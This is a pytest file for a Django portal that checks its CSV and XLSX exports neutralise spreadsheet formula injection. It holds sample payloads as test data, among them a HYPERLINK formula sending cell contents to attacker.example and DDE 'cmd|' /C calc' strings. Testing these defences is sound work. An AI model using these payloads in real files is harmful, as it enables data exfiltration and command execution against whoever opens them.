"""No text becomes a formula in a file the portal writes (issue 22, point 4; OWASP's CSV
injection guidance): the registry's CSV and XLSX exports and the report's XLSX annex and CSV
store a cell starting with = + - @ tab or carriage return as text. (Text reaching the records
through a form or an import has no leading tab or carriage return: they are stripped.)"""

import csv
import io
import zipfile
from datetime import date

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from bali_portal.spreadsheets import (
    FORMULA_STARTS,
    csv_line_has_formula,
    csv_text,
    starts_formula,
    text_of_csv_cell,
)
from registry import export_labels
from registry.importing import import_csv
from registry.models import Activity, Organization
from requests_app.workflow import State
from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE = {
    "title": '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
    "title_zh": "+1+cmd|' /C calc'!A0",
    "phase": "-2+3",
    "objectives": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description": "=1+1",
    "outputs": "-1",
    "results_narrative": "'=already quoted once",
}


def test_the_rule_and_its_inverse():
    for start in FORMULA_STARTS:
        assert starts_formula(start + "1") and csv_text(start + "1") == "'" + start + "1"
    for text in ("", "plain", "a=b", "2024-01-01", "'", "'plain", "中文", "#N/A"):
        assert csv_text(text) == text
    # What the export writes reads back exactly, even text that looks already neutralised.
    for text in (*HOSTILE.values(), "=", "'=", "''-1", "'", "'plain", "plain", ""):
        assert text_of_csv_cell(csv_text(text)) == text
        assert not csv_text(text).startswith(FORMULA_STARTS)


@pytest.mark.parametrize(
    "cells",
    [("a", "=b"), ("=a", "b"), ("a", "b", "-1"), ("a", "'=b"), ("a", "@"), ("a", "\tb")],
)
def test_a_line_with_a_formula_cell_is_found_by_its_scan(cells):
    assert csv_line_has_formula(",".join(cells))
    assert not csv_line_has_formula(",".join(cell.lstrip("'=-@\t") or "x" for cell in cells))


@pytest.fixture
def hostile_activity():
    activity = Activity.objects.create(
        identifier="HOSTILE-1",
        modality="south_south",
        status="completed",
        lead_division_id="DEPI",
        is_published=True,
        planned_start=date(2025, 1, 1),
        actual_end=date(2025, 6, 30),
        people_trained_female=3,
        **HOSTILE,
    )
    activity.countries.add("KEN")
    activity.regional_offices.add("ROA")
    return activity


def _export(client, export_format: str) -> bytes:
    response = client.get("/api/v1/activities/export/", {"format": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_the_registry_csv_keeps_formulas_as_text_and_reads_back_unchanged(client, hostile_activity):
    rows = list(csv.reader(io.StringIO(_export(client, "csv").decode("utf-8-sig"))))
    header, row = rows[0], rows[1]
    assert not [cell for cell in row if cell.startswith(FORMULA_STARTS)]
    cells = dict(zip(header, row, strict=True))
    for name, text in HOSTILE.items():
        assert cells[name] == "'" + text, name
    # Imported back (the export is the import's format), the record is unchanged.
    report = import_csv(_export(client, "csv"), actor=factories.coordinator())
    assert report.ok, report.problems
    assert report.unchanged == ["HOSTILE-1"]


def _formula_cells(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as package:
        return [
            name
            for name in package.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in package.read(name)
        ]


def test_the_registry_xlsx_keeps_formulas_as_quoted_text(client, hostile_activity):
    body = _export(client, "xlsx")
    assert _formula_cells(body) == []
    sheet = load_workbook(io.BytesIO(body)).active
    header = [cell.value for cell in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    for name, text in HOSTILE.items():
        cell = row[str(export_labels.COLUMN_LABELS[name])]  # headed for people (issue 17)
        assert (cell.value, cell.data_type) == (text, "s"), name
        assert cell.quotePrefix == starts_formula(text), name
    assert row["Women trained"].value == 3  # numbers stay numbers


def test_the_reports_annex_and_csv_keep_formulas_as_text(settings, tmp_path):
    from reporting import services as reports

    settings.MEDIA_ROOT = tmp_path
    Activity.objects.create(
        identifier="HOSTILE-2",
        modality="south_south",
        status="completed",
        lead_division_id="DEPI",
        planned_start=date(2025, 1, 1),
        actual_end=date(2025, 6, 30),
        **HOSTILE,
    )
    Organization.objects.create(name='=HYPERLINK("https://attacker.example")', kind="ngo")
    factories.make_request(
        state=State.COMPLETED,
        lead_division="DEPI",
        completed_at=timezone.make_aware(timezone.datetime(2025, 5, 1)),
        outputs=HOSTILE["title"],
        lessons=HOSTILE["objectives"],
        cost_usd=100,
    )
    run = reports.produce_report(reports.create_command_run(year=2025).pk)
    assert run.status == run.Status.DONE, run.error

    xlsx = run.xlsx.read()
    assert _formula_cells(xlsx) == []
    texts = [
        cell.value
        for sheet in load_workbook(io.BytesIO(xlsx)).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "s" and cell.value
    ]
    assert HOSTILE["title"] in texts and HOSTILE["objectives"] in texts

    assert run.csv.read()  # its cells: below


def test_the_headline_csv_keeps_text_as_text_and_numbers_as_numbers(tmp_path):
    from reporting.document import INT, PCT, Document, Headline
    from reporting.render.headline_csv import render_csv

    document = Document(2025, "en", "Report", "", "", [], [], [])
    document.headlines = [
        Headline("=cmd", "@label", 3, INT, previous=-2, section=1),
        Headline("-change", "+share", -0.25, PCT, previous=0.5, section=2),
    ]
    render_csv(document, tmp_path / "figures.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "figures.csv").read_text("utf-8-sig"))))
    assert rows[1:] == [
        ["'=cmd", "1", "'@label", "3", "-2", "count"],
        ["'-change", "2", "'+share", "-25.0", "50.0", "percent"],
    ]


def test_the_headline_csv_is_written_in_the_reports_language(tmp_path):
    from reporting.document import INT, Document, Headline
    from reporting.render.headline_csv import render_csv

    document = Document(2025, "fr", "Rapport", "", "", [], [], [])
    document.headlines = [Headline("requests_received", "Demandes reçues", 3, INT, section=1)]
    render_csv(document, tmp_path / "figures.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "figures.csv").read_text("utf-8-sig"))))
    assert rows[0][:2] == ["indicateur", "section"] and rows[0][-1] == "unité"
    assert rows[1][0] == "requests_received"  # the key stays machine-readable
    assert rows[1][-1] == "nombre"
